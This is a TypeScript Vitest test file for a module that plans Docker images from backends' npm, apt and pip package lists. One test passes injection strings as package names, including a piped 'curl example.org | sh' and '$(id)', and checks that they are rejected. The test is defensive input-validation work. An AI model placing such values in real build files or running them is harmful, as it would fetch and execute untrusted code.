import { expect, test } from "vitest";
import { imageOfBackend, imagePlans } from "./plans.ts";

const script = { name: "script", image: { npm: [], apt: [] } };
const codex = { name: "codex", image: { npm: ["@openai/codex@0.169.0"], apt: [] } };
const lfs = { name: "lfs", image: { npm: [], apt: ["jq", "git-lfs"] } };
const miniswe = { name: "miniswe", image: { npm: [], apt: [], pip: ["rich==15.0.0", "mini-swe-agent==2.4.6"] } };

test("a base, an image for each backend that needs more, one with all of them, the daemons'; the base comes first", () => {
  const pip = { miniswe: ["mini-swe-agent==2.4.6", "rich==15.0.0"] };
  expect(imagePlans([script, miniswe, lfs, codex])).toEqual([
    { name: "base", kind: "base", backends: ["script"], npm: [], apt: [], pip: {} },
    { name: "codex", kind: "backend", backends: ["codex", "script"], npm: ["@openai/codex@0.169.0"], apt: [], pip: {} },
    { name: "lfs", kind: "backend", backends: ["lfs", "script"], npm: [], apt: ["git-lfs", "jq"], pip: {} },
    { name: "miniswe", kind: "backend", backends: ["miniswe", "script"], npm: [], apt: [], pip },
    { name: "all", kind: "backend", backends: ["codex", "lfs", "miniswe", "script"], npm: ["@openai/codex@0.169.0"], apt: ["git-lfs", "jq"], pip },
    { name: "stack", kind: "stack", backends: [], npm: [], apt: [], pip: {} },
  ]);
  expect([script, codex, miniswe].map(imageOfBackend)).toEqual(["base", "codex", "miniswe"]);
});

test.each(["a; curl example.org | sh", "$(id)", "-g", "a b", '"'])("what is no package gets into no Dockerfile: %s", (text) => {
  expect(() => imagePlans([{ name: "evil", image: { npm: [text], apt: [] } }])).toThrow("image.npm");
  expect(() => imagePlans([{ name: "evil", image: { npm: [], apt: [text] } }])).toThrow("image.apt");
  expect(() => imagePlans([{ name: "evil", image: { npm: [], apt: [], pip: [text] } }])).toThrow("image.pip");
});

test("a backend cannot take the name of one of ours", () => {
  expect(() => imagePlans([{ ...codex, name: "all" }])).toThrow("one of Slipway's own has this name");
});
